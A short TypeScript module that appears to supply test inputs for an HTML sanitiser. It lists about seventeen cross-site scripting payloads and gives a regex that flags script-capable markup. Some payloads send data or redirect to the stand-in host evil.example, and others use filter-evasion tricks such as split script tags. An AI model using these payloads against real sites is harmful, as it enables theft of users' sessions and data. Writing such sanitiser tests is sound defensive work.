/** Ways in which a text with HTML might bring a script. */
export const scriptAttacks: readonly string[] = [
  '<script>steal()</script>',
  '<img src=x onerror=steal()>',
  '<a href="javascript:steal()">x</a>',
  '<a href=" java\nscript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<svg onload=steal()><script>steal()</script></svg>',
  '<iframe src="https://evil.example/steal"></iframe>',
  '<object data="steal.swf"></object><embed src="steal">',
  '<p style="background:url(javascript:steal())">x</p>',
  '<form action="https://evil.example"><input name="steal"></form>',
  '<math><mi xlink:href="javascript:steal()">x</mi></math>',
  '<base href="https://evil.example/steal/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/steal">',
  '<p onclick="steal()">x</p>',
  '<details ontoggle="steal()" open>x</details>',
  '<<script>script>steal()</script>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
];

/** What nothing may match that a browser shows as HTML. */
export const couldRun = /<script|<iframe|<object|<svg|<form|<base|<meta|javascript:|\son\w+=|data:text|style=/i;
